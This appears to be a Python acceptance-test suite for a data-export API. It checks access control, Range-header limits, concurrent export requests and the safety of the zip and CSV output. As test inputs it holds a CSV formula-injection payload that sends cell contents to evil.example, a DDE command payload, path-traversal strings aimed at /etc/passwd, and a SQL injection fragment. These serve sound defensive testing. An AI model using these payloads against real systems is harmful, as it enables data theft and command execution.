"""Exports attacked: foreign links, odd ranges and ids, names that are formulas or paths, many at once."""

import asyncio
import csv
import io
import json
import zipfile
from typing import Any

import pytest

from sandbox.visitor import Json, Refused, Visitor
from tests.acceptance.scene import Scene

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "../../../../etc/passwd",
]


async def fetch(
    scene: Scene, who: Visitor | None, path: str, hub: int = 0, **headers: str
) -> tuple[int, bytes]:
    given = {**({} if who is None else {"Authorization": f"Bearer {who.token}"}), **headers}
    url = f"{scene.stack.hub_urls[hub]}{path}"
    async with scene.http.get(url, headers=given) as response:
        return response.status, await response.read()


async def made(who: Visitor) -> Json:
    asked = await who.post("/v1/me/exports")
    await who.hear("export:progress", lambda body: body["state"] == "ready")
    found: Json = await who.get(f"/v1/me/exports/{asked['id']}")
    return found


async def test_a_link_is_nobody_elses(scene: Scene) -> None:
    victim, thief = await scene.guest(0), await scene.host(1)
    export = await made(victim)
    for hub in (0, 1):
        assert (await fetch(scene, thief, export["url"], hub))[0] == 404
        assert (await fetch(scene, None, export["url"], hub))[0] == 401
        assert (await fetch(scene, thief, f"{export['url']}?person_id={victim.id}", hub))[0] in (400, 404)
        assert (await fetch(scene, victim, f"{export['url']}?token={victim.token[:10]}", hub))[0] == 400
    assert (await victim.get(f"/v1/me/exports/{export['id']}"))["state"] == "ready"


@pytest.mark.parametrize(
    "odd", ["..", "%2e%2e", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%00", "*", "0", "' or 1=1 --", "%F0%9F%92%A9"]
)
async def test_an_odd_id_is_nothing(scene: Scene, odd: str) -> None:
    who = await scene.guest()
    for path in (f"/v1/me/exports/{odd}", f"/v1/me/exports/{odd}/download"):
        assert (await fetch(scene, who, path))[0] in (400, 404)


async def test_ranges_give_no_more_than_there_is(scene: Scene) -> None:
    who = await scene.guest()
    export = await made(who)
    size = export["size_bytes"]
    for asked in (f"bytes={size}-", f"bytes={2**63}-", "bytes=99999999999999999999-", "bytes=-0"):
        status, _ = await fetch(scene, who, export["url"], Range=asked)
        assert status == 416
    for asked in (f"bytes={size - 1}-{2**62}", "bytes=-1", f"bytes={size - 1}-"):
        status, content = await fetch(scene, who, export["url"], Range=asked)
        assert (status, len(content)) == (206, 1)
    # As many parts as fit in a header: the answer is no larger than the archive, or there is none.
    status, content = await fetch(scene, who, export["url"], Range="bytes=" + ",".join(["1-"] * 2_000))
    assert (status, len(content)) in [(200, size), (400, len(content))]
    status, content = await fetch(scene, who, export["url"], Range="bytes=" + "9" * 20_000 + "-")
    assert status in (200, 400, 404)


async def test_many_at_once_make_one(scene: Scene) -> None:
    lines = [await scene.guest(0)]
    lines.append(await scene.enter(lines[0], 1))
    answers = await asyncio.gather(
        *(line.post("/v1/me/exports") for line in lines * 10), return_exceptions=True
    )
    ids = {answer["id"] for answer in answers if not isinstance(answer, BaseException)}
    assert len(ids) == 1
    assert all(isinstance(answer, dict | Refused) for answer in answers)
    [row] = await scene.sql("select count(*) as n from exports where person_id = $1", lines[0].id)
    assert row["n"] == 1


async def test_who_takes_it_at_once_has_all_of_it_or_nothing_and_then_nobody(scene: Scene) -> None:
    who = await scene.guest()
    export = await made(who)
    got = await asyncio.gather(*(fetch(scene, who, export["url"], number % 2) for number in range(6)))
    whole = [content for status, content in got if status == 200]
    assert whole
    assert all(len(content) == export["size_bytes"] for content in whole)
    assert {status for status, _ in got} <= {200, 404}
    assert (await fetch(scene, who, export["url"]))[0] == 404


@pytest.mark.parametrize("name", NAMES)
async def test_a_name_is_only_text(scene: Scene, name: str) -> None:
    who = await scene.guest()
    await scene.sql("update people set name = $2 where id = $1", who.id, name)
    export = await made(who)
    status, content = await fetch(scene, who, export["url"])
    assert status == 200
    archive = zipfile.ZipFile(io.BytesIO(content))
    assert safe(archive)
    [person] = json.loads(archive.read("data/people.json"))
    assert person["name"] == name
    cells = [
        cell
        for path in archive.namelist()
        if path.endswith(".csv")
        for row in csv.reader(io.StringIO(archive.read(path).decode(), newline=""))
        for cell in row
    ]
    # It is in a table too, behind whatever keeps it from being calculated.
    assert [cell for cell in cells if name in cell]
    assert not [cell for cell in cells if cell[:1] in tuple("=+@\t\r") or is_formula(cell)]


def is_formula(cell: str) -> bool:
    """Begins with a minus and is no number."""
    try:
        return cell.startswith("-") and not float(cell) <= 0
    except ValueError:
        return True


def safe(archive: zipfile.ZipFile) -> bool:
    names: list[Any] = archive.namelist()
    return archive.testzip() is None and not [
        name for name in names if name.startswith("/") or ".." in name or "\\" in name or ":" in name
    ]
